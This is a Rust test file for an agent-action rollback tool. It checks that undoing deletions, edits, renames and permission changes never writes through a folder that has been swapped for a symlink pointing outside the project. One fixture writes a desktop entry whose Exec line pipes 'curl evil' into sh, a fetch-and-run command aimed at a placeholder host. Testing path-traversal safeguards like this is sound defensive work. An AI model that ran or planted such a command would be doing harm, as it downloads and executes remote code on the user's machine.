//! A rollback never touches a path through a folder that became a symlink (issue 14, item 6):
//! the agent deletes `d/x.desktop`, later replaces `d/` (or a folder above it) by a link to a
//! folder outside; reverting the deletion must not write the file there. Refused before
//! anything moves, forced or not; a link the same rollback removes first is fine.

use super::*;
use std::os::unix::fs::symlink;

/// Every entry below `dir`, as `tree` reads them.
fn contents(dir: &Path) -> BTreeMap<String, Node> {
    tree(dir)
}

/// Records turn 1 deleting `file` and turn 2 replacing the folder `linked` by a link to `to`;
/// returns the ops of both turns.
fn delete_then_swap(fx: &mut Fixture, file: &str, linked: &str, to: &Path) -> (Vec<FileOp>, Vec<FileOp>) {
    let deleted = fx.turn("s", 1, |fx| fs::remove_file(fx.path(file)).unwrap());
    let swapped = fx.turn("s", 2, |fx| {
        fs::remove_dir_all(fx.path(linked)).unwrap();
        symlink(to, fx.path(linked)).unwrap();
    });
    (deleted, swapped)
}

fn assert_refused(refused: RollbackError, folder: &str) {
    let RollbackError::Unreachable(reason) = &refused else { panic!("expected a refusal, got {refused:?}") };
    let text = refused.to_string();
    assert!(text.contains(&format!("`{folder}`")) && text.contains("link") && text.contains("Nothing was rolled back"), "{text}");
    let _ = reason;
}

#[test]
fn reverting_a_deletion_never_writes_through_a_folder_that_became_a_link() {
    // The link as the immediate parent, as a grandparent, as a folder between, and pointing to
    // a folder inside the project (refused too: the recorded file is at the real path).
    let cases = [
        ("d/x.desktop", "d", false),
        ("a/b/c/x.desktop", "a", false),
        ("a/b/c/x.desktop", "a/b", false),
        ("a/b/c/x.desktop", "a/b/c", false),
        ("d/x.desktop", "d", true),
    ];
    for (file, linked, inside) in cases {
        let mut fx = Fixture::new();
        let outside = tempfile::tempdir().unwrap();
        fx.write(file, b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
        fx.write("elsewhere/keep.txt", b"kept");
        let to = if inside { fx.path("elsewhere") } else { outside.path().to_owned() };
        let (deleted, _) = delete_then_swap(&mut fx, file, linked, &to);
        let project_before = fx.tree();
        for force in [false, true] {
            let refused = fx.recorder.rollback(&ids(&deleted), force).unwrap_err();
            assert_refused(refused, linked);
        }
        assert_eq!(fx.tree(), project_before, "{file} via {linked}: nothing touched");
        assert!(contents(outside.path()).is_empty(), "{file} via {linked}: nothing written outside");
        assert_eq!(contents(&fx.path("elsewhere")).keys().collect::<Vec<_>>(), ["keep.txt"]);
        assert!(fx.journal().rollbacks(None).unwrap().is_empty(), "a refusal leaves no rollback");
    }
}

#[test]
fn modify_rename_chmod_and_create_are_never_undone_through_a_linked_folder() {
    let mut fx = Fixture::new();
    let outside = tempfile::tempdir().unwrap();
    fx.write("d/edited.txt", b"v1");
    fx.write("d/moved.txt", b"moved");
    fx.write("d/mode.sh", b"#!/bin/sh\n");
    let ops = fx.turn("s", 1, |fx| {
        fx.write("d/edited.txt", b"v2");
        fs::rename(fx.path("d/moved.txt"), fx.path("d/renamed.txt")).unwrap();
        fx.chmod("d/mode.sh", 0o755);
        fx.write("d/created.txt", b"by the agent");
    });
    let kinds: Vec<_> = ops.iter().map(|op| op.kind.as_str()).collect();
    assert_eq!(kinds, ["create", "modify", "chmod", "rename"]);
    // The person (or a later turn, unrecorded here) swaps the folder; outside has files of the
    // same names, which must be left exactly as they are.
    for name in ["edited.txt", "moved.txt", "renamed.txt", "mode.sh", "created.txt"] {
        fs::write(outside.path().join(name), format!("outside {name}")).unwrap();
    }
    let outside_before = contents(outside.path());
    fs::remove_dir_all(fx.path("d")).unwrap();
    symlink(outside.path(), fx.path("d")).unwrap();
    for op in &ops {
        for force in [false, true] {
            let refused = fx.recorder.rollback(&[op.id], force);
            match &op.kind {
                // Undoing a create removes a file: beyond the link there is none of the
                // project's, so it is gone already and nothing is removed.
                OpKind::Create => {
                    let report = refused.unwrap();
                    assert!(report.removed.is_empty() && report.restored.is_empty(), "{report:?}");
                }
                _ => assert_refused(refused.unwrap_err(), "d"),
            }
        }
        assert_eq!(contents(outside.path()), outside_before, "{:?}: outside untouched", op.kind);
    }
}

#[test]
fn a_link_the_same_rollback_removes_is_fine_and_the_folder_comes_back() {
    let mut fx = Fixture::new();
    let outside = tempfile::tempdir().unwrap();
    fx.write("d/x.desktop", b"entry");
    fx.write("d/y.txt", b"other");
    let before = fx.tree();
    let (deleted, swapped) = delete_then_swap(&mut fx, "d/x.desktop", "d", outside.path());
    let all: Vec<OpId> = ids(&deleted).into_iter().chain(ids(&swapped)).collect();
    fx.recorder.rollback(&all, false).unwrap();
    assert_eq!(fx.tree(), before, "the link removed, then the real folder made again");
    assert!(fs::symlink_metadata(fx.path("d")).unwrap().is_dir());
    assert!(contents(outside.path()).is_empty());
}

#[test]
fn a_link_in_place_of_the_file_itself_is_replaced_not_followed() {
    let mut fx = Fixture::new();
    let outside = tempfile::tempdir().unwrap();
    let precious = outside.path().join("precious");
    fs::write(&precious, b"the person's file outside").unwrap();
    fx.write("config.toml", b"original");
    let ops = fx.turn("s", 1, |fx| fs::remove_file(fx.path("config.toml")).unwrap());
    symlink(&precious, fx.path("config.toml")).unwrap();
    // A change since: refused unless forced; forced, the link is replaced.
    assert!(matches!(fx.recorder.rollback(&ids(&ops), false), Err(RollbackError::Conflicts(_))));
    fx.recorder.rollback(&ids(&ops), true).unwrap();
    assert!(!fs::symlink_metadata(fx.path("config.toml")).unwrap().file_type().is_symlink());
    assert_eq!(fs::read(fx.path("config.toml")).unwrap(), b"original");
    assert_eq!(fs::read(&precious).unwrap(), b"the person's file outside");
}
